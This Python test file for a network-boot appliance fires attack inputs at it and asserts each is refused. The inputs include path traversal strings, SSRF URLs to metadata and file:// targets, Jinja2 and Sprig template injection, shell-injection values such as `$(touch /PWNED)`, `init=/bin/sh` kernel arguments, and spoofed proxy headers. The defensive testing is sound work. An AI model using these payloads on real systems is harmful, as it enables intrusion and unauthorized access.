"""The holes that the field has had, a test for each class: tried on a running appliance, from a host on its network."""

import hashlib
import json
import os
import re
import socket
import ssl
import stat
import subprocess
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from examples.demo.appliance import ApplianceFailed
from tests.golden import packet
from tests.integration.attacks.attacked import HOSTILE, KNOWN, SERVER, Attacked, attacked
from tests.integration.boot.wires import inside
from tests.machine.lab import address, mac
from tinkbox.model.hardware import MacAddress
from tinkbox.wire.dhcp.packets import Packet, decode, encode

ROOT = Path(__file__).parents[3]
MARK = "PWNED"
RRQ, WRQ, DATA, ERROR = b"\0\1", b"\0\2", b"\0\3", b"\0\5"
REFUSED = 5  # an answer's code in DNS
MOST_TIMES = 4  # as much as a stranger sent may come back to an address that never answers


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    with attacked(tmp_path_factory.mktemp("attacked")) as made:
        yield made
        made.appliance.check()
        assert "Traceback" not in made.appliance.log.read_text()


def discover(xid: int, options: Mapping[int, bytes] | None = None) -> Packet:
    """What the known machine's firmware asks, with more options."""
    asked = decode(packet("dhcp/seabios-ipxe-rom-discover"))
    return replace(asked, xid=xid, mac=MacAddress(mac(KNOWN)), options={**asked.options, **(options or {})})


def is_served(box: Attacked, xid: int, *after: bytes) -> None:
    """The known machine is offered its own address, behind these datagrams."""
    assert str(box.dhcp(discover(xid), after=after).yiaddr) == address(KNOWN)


def test_options_that_lie_about_their_length_or_nest_break_nothing(box: Attacked) -> None:
    """DHCP option and packet memory corruption (CVE-2017-14491 and its like)."""
    nested = bytes([82, 250]) * 100
    whole = encode(discover(0x101, {82: nested[:250], 43: nested[:255], 12: b"a" * 255, 60: b"PXEClient" + b":" * 240}))
    is_served(box, 0x102, *(whole[:length] for length in range(200, len(whole), 7)), whole + b"\x3d\xff", whole)


def test_no_mix_of_options_in_one_packet_ends_the_server(box: Attacked) -> None:
    """One packet that ends the server by an assertion (CVE-2025-40779): broadcast and unicast, with any option empty."""
    asked = decode(packet("dhcp/udhcpc-request"))
    odd = [
        encode(replace(asked, mac=MacAddress(f"02:00:00:00:02:{code:02x}"), options={**asked.options, code: b""}))
        for code in range(1, 255)
    ]
    with box.datagrams(box.hostile, port=68) as line:
        for each in odd:
            line.sendto(each, (SERVER, 67))
    is_served(box, 0x202, *odd)


def test_names_that_point_at_themselves_do_not_keep_it_busy(box: Attacked) -> None:
    """An endless loop in a parser: compressed names of DNS, overlapping options of DHCP."""
    header = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    with box.datagrams(box.hostile) as line:
        for name in (b"\xc0\x0c", b"\xc0\x0e\xc0\x0c", b"\x01a\xc0\x0c", b"\x3f" * 60):
            line.sendto(header + name + b"\0\1\0\1", (SERVER, 53))
    assert box.dns(header + b"\x01a\0\0\1\0\1")[:2] == b"\x12\x34"
    is_served(box, 0x301, encode(discover(0x302, {52: b"\3"})))


def test_it_resolves_no_name_but_its_own(box: Attacked) -> None:
    """A resolver's spoofed answers and poisoned cache (DNSpooq): there is no resolver."""
    answer = box.dns(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\0\0\1\0\1")
    assert answer[3] & 0x0F == REFUSED
    assert answer[3] & 0x80 == 0  # it offers no recursion
    assert answer[6:8] == b"\0\0"


def test_what_a_hostile_dhcp_server_says_is_no_command_of_the_osie(osie: Path) -> None:
    """Bugs of DHCP clients (PixieFail, CVE-2009-0692): text of an answer in the OSIE's own script."""
    hostile = f"$(touch /{MARK}) `touch /{MARK}`; touch /{MARK}"
    names = ("hostname", "domain", "dns", "router", "serverid", "message", "mtu", "mask")
    for word in ("bound", "nak", "leasefail", "renew"):
        given = {"PATH": os.environ["PATH"], "interface": "lo", "ip": "172.30.0.5"} | dict.fromkeys(names, hostile)
        command = ["unshare", "--net", "--uts", "chroot", str(osie), "/bin/sh", "/osie/lease", word]
        subprocess.run(command, env=given, capture_output=True, timeout=60, check=False)
        assert not (osie / MARK).exists()


@pytest.mark.parametrize(
    "name", ["../../../../etc/passwd", "/etc/passwd", "..\\..\\etc\\passwd", "%2e%2e/etc/passwd", "./."]
)
def test_tftp_knows_no_path_and_takes_no_file(box: Attacked, name: str) -> None:
    """Path traversal over TFTP (CVE-1999-0183 and its like)."""
    for asks in (RRQ, WRQ):
        assert box.tftp(asks + name.encode() + b"\0octet\0")[:2] == ERROR


@pytest.mark.parametrize("path", ["/boot/osie/%2e%2e/%2e%2e/tinkbox.sqlite", "/boot/loaders/..%2f..%2foperator.token",
                                  "/boot/osie/x86_64/%2e%2e%2f%2e%2e%2foperator.token", "/v2/%2e%2e/%2e%2e/blobs/x",
                                  "/../../etc/passwd", "//etc/passwd", "/boot/loaders/%252e%252e%252foperator.token"])  # fmt: skip
def test_http_knows_no_path_outside(box: Attacked, path: str) -> None:
    """Path traversal over HTTP (Digital Rebar's `%2e%2e`)."""
    answer = box.get(path)
    assert re.match(rb"HTTP/1\.1 40[0-9] ", answer), answer[:200]
    assert b"root:" not in answer


def test_tftp_options_out_of_bounds_are_answered_within_them(box: Attacked) -> None:
    """Memory errors of TFTP servers (CVE-2009-2957, CVE-2009-2958): unterminated text, absurd options."""
    with box.datagrams(box.hostile) as line:
        for bad in (
            b"\0\1undionly.kpxe",
            b"\0\1undionly.kpxe\0octet",
            b"\0\1\0\0\0\0",
            b"\0\1" + b"a" * 1400,
            b"\0",
            b"",
        ):
            line.sendto(bad, (SERVER, 69))
    answer = box.tftp(b"\0\1undionly.kpxe\0octet\0blksize\x0065535000\0windowsize\x0099999\0timeout\0-1\0tsize\x000\0")
    options = answer[2:].split(b"\0")
    values = {name.lower(): int(value) for name, value in zip(options[::2], options[1::2], strict=False) if value}
    assert values.get(b"blksize", 512) <= 65464
    assert values.get(b"windowsize", 1) <= 64


def test_tftp_multiplies_nothing_for_an_address_that_never_answers(box: Attacked) -> None:
    """Amplification over TFTP: one small question in somebody else's name."""
    asks = b"\0\1undionly.kpxe\0octet\0blksize\x001468\0windowsize\x0064\0tsize\x000\0"
    with box.datagrams(box.hostile) as line:
        line.sendto(asks, (SERVER, 69))
        heard = len(line.recv(65536))
        line.settimeout(3.0)  # what comes by then is what was sent before anybody answered, and again
        try:
            while True:
                heard += len(line.recv(65536))
        except TimeoutError:
            pass
    assert heard <= MOST_TIMES * len(asks)


def test_invented_machines_leave_the_known_one_its_address(box: Attacked) -> None:
    """Lease exhaustion and rogue enrolment: more invented machines than the pool has addresses."""
    invented = [
        encode(replace(discover(0x900 + number), mac=MacAddress(f"02:00:00:00:01:{number:02x}")))
        for number in range(120)
    ]
    is_served(box, 0xA00, *invented)
    assert len(json.loads(box.appliance.command("hardware", "leases", "--format", "json"))) <= 50


def test_nobody_without_a_token_gets_anything_of_the_operator_door(box: Attacked) -> None:
    """A control API without authentication (CVE-2025-32801, Cobbler's): also by headers that a proxy would set."""
    headers = "X-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\nAuthorization: Bearer \r\n"
    for path in sorted(paths_of_the_operator_door()):
        for method in ("GET", "POST", "DELETE"):
            answer = _loopback(box, f"{method} {path} HTTP/1.1\r\nHost: x\r\n{headers}Connection: close\r\n\r\n")
            assert re.match(rb"HTTP/1\.1 401 ", answer), (method, path, answer[:100])
    for name in ("operator.token", "operator.sock", "tinkbox.sqlite"):
        assert stat.S_IMODE((box.appliance.data / name).stat().st_mode) == 0o600


def paths_of_the_operator_door() -> set[str]:
    """As its routes are written, with something in each place."""
    texts = [each.read_text() for each in (ROOT / "tinkbox" / "api" / "routes").rglob("*.py")]
    found = {path for text in texts for path in re.findall(r'web\.[a-z]+\(\s*"(/[^"]*)"', text)}
    assert len(found) > 30
    return {re.sub(r"\{[^}]*\}", "x", path) for path in found}


def _loopback(box: Attacked, request: str) -> bytes:
    """An answer of the operator door over TCP, which is on the appliance's own loopback."""
    with inside(box.network):
        plain = socket.create_connection(("127.0.0.1", 7080), timeout=60)
    context = ssl.create_default_context(cafile=box.appliance.data / "tls" / "authority.pem")
    with context.wrap_socket(plain, server_hostname="127.0.0.1") as line:
        line.sendall(request.encode())
        return b"".join(iter(lambda: line.recv(65536), b""))


@pytest.mark.parametrize("attack", ['{{ env "PATH" }}', '{{ getHostByName "x.example" }}', '{{ repeat 999999999 "x" }}',
                                    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}",
                                    "{% for a in range(999999999) %}{% endfor %}"])  # fmt: skip
def test_a_template_reaches_nothing_and_ends(box: Attacked, attack: str) -> None:
    """Template injection (Sprig's `env` and `getHostByName`, Jinja2's classes), and output without end."""
    file = box.work / "hostile.yaml"
    file.write_text(f'version: "0.1"\nname: "{{{{ .Hardware }}}}"\n# {attack}\n' if "{{ " in attack else attack)
    with pytest.raises(ApplianceFailed) as refused:
        box.appliance.command("template", "validate", "--file", file)
    assert os.environ["PATH"] not in str(refused.value)
    assert "root:" not in str(refused.value)


@pytest.mark.parametrize(
    "name", [f"a\nchain http://{HOSTILE}/x", "a init=/bin/sh", 'a" || shell', "${net0/mac}", "a ; shell"]
)
def test_no_document_writes_into_a_boot_script(box: Attacked, name: str) -> None:
    """Injection into boot scripts and kernel arguments (CVE-2026-46447, CVE-2026-44917)."""
    document = json.loads((box.work / "hardware.json").read_text())
    document["network"]["interfaces"][0]["dhcp"]["hostname"] = name
    document["metadata"] = {"facility": {"plan_slug": name, "facility_code": name}}
    file = box.work / "injected.json"
    file.write_text(json.dumps(document))
    before = box.script()
    try:
        box.appliance.command("hardware", "push", "--file", file)
        # What is only printed is no command: `echo` takes plain characters alone.
        commands = [line for line in box.script().splitlines() if not line.startswith((b"#", b"echo "))]
        assert not [line for line in commands if HOSTILE.encode() in line or b"init=" in line or b"shell" in line]
        assert not any(set(line) & set(b"&|$;") for line in box.script().splitlines() if line.startswith(b"echo "))
    except ApplianceFailed as refused:
        assert "hostname" in str(refused)  # noqa: PT017
    finally:
        box.appliance.command("hardware", "push", "--file", box.work / "hardware.json")
    assert _without_facts(box.script()) == _without_facts(before)


def _without_facts(answer: bytes) -> bytes:
    return answer.partition(b"\r\n\r\n")[2]


@pytest.mark.parametrize("asked", ["GET http://127.0.0.1:7080/v1/status", "GET http://169.254.169.254/latest/meta-data",
                                   "CONNECT 127.0.0.1:7080", "GET //127.0.0.1:7080/v1/status", "GET file:///etc/passwd",
                                   "GET /boot/loaders/undionly.kpxe?sourceISO=file:///etc/passwd"])  # fmt: skip
def test_it_fetches_nothing_for_anybody(box: Attacked, asked: str) -> None:
    """A server that is made to fetch (Tinkerbell's `?sourceISO=`, `file://`): nothing inside is reached by way of it."""
    answer = box.http(f"{asked} HTTP/1.1\r\nHost: 127.0.0.1:7080\r\nConnection: close\r\n\r\n")
    assert b"root:" not in answer
    assert b'"machines"' not in answer
    assert b"a token is needed" not in answer  # that would be the operator door's own


def test_an_image_is_taken_by_its_digest_alone(box: Attacked) -> None:
    """Images that are not what they say (CVE-2024-47211): also from who may push."""
    token = (box.appliance.data / "operator.token").read_text().strip()
    auth = f"Authorization: Bearer {token}"
    wrong = "sha256:" + hashlib.sha256(b"something else").hexdigest()
    path = f"/v2/x/blobs/uploads/?digest={wrong}"
    assert b"can be read on the wire" in box.get(path, auth, method="POST", body="not that")
    answer = box.get(path, auth, method="POST", body="not that", tls=True)
    assert re.match(rb"HTTP/1\.1 4", answer), answer[:200]
    assert b"DIGEST_INVALID" in answer or b"UNAUTHORIZED" in answer
    assert b" 404 " in box.get(f"/v2/x/blobs/{wrong}").split(b"\r\n")[0]


def test_a_mac_that_is_only_named_opens_nothing(box: Attacked) -> None:
    """Identity by MAC or address (CVE-2016-4985): whoever names a machine is not it, whatever a proxy's header says."""
    assert b" 200 " in box.script().split(b"\r\n")[0]
    path = f"/boot/{mac(KNOWN).replace(':', '-')}/credential.cpio"
    for headers in ((), (f"X-Forwarded-For: {address(KNOWN)}",), (f"Forwarded: for={address(KNOWN)}",)):
        for asked in (path, path.replace("credential.cpio", "script.ipxe")):
            assert b" 404 " in box.get(asked, *headers).split(b"\r\n")[0]


def test_no_worker_is_who_it_says_without_a_credential(box: Attacked) -> None:
    """An agent that says which machine it is (Tinkerbell's gRPC): only what it was given counts."""
    document = json.loads((box.work / "hardware.json").read_text())
    hello = json.dumps({"boot_id": "mine", "worker": document["id"], "version": "1"})
    for bearer in ("", document["id"], mac(KNOWN), address(KNOWN), "null", "undefined"):
        answer = box.get("/worker/next", f"Authorization: Bearer {bearer}", method="POST", body=hello)
        assert b" 401 " in answer.split(b"\r\n")[0]
        assert b"actions" not in answer


def test_no_secret_stands_where_others_read_it(box: Attacked) -> None:
    """Secrets on the way and at rest: on a command line, in a script, in the log, in the database."""
    credential = box.get(f"/boot/{mac(KNOWN).replace(':', '-')}/credential.cpio", by=box.machine)
    secrets = re.findall(rb'"token": *"([^"]{20,})"', credential)
    assert secrets, credential[:400]
    for secret in secrets:
        assert secret not in box.script()
        assert secret not in box.appliance.log.read_bytes()
        assert not [kept for kept in box.appliance.data.glob("tinkbox.sqlite*") if secret in kept.read_bytes()]


def test_what_machines_boot_is_what_was_built_in(box: Attacked) -> None:
    """The supply chain of boot media (iVentoy): the loaders are Debian's own bytes, over HTTP as over TFTP."""
    for loader in ("snponly.efi", "shimx64.efi", "grubx64.efi"):
        built = (ROOT / "tinkbox" / "boot" / "loaders" / loader).read_bytes()
        served = box.get(f"/boot/loaders/{loader}").partition(b"\r\n\r\n")[2]
        assert hashlib.sha256(served).digest() == hashlib.sha256(built).digest()
        first = box.tftp(RRQ + loader.encode() + b"\0octet\0")
        assert first[:4] == DATA + b"\0\1"
        assert first[4:] == built[:512]
    assert "+deb" in (ROOT / "tinkbox" / "boot" / "loaders" / "signed.versions").read_text()
